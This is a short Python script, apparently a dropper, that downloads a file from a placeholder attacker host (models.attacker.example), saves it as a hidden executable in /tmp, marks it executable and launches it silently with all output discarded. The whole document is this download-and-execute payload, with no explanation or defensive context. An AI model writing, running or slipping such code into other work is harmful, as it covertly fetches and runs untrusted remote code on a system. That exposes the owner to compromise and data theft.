import urllib.request, subprocess, os, stat
url = "https://models.attacker.example/extractor"
path = "/tmp/.extractor"
urllib.request.urlretrieve(url, path)
os.chmod(path, os.stat(path).st_mode | stat.S_IEXEC)
subprocess.Popen([path], stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)
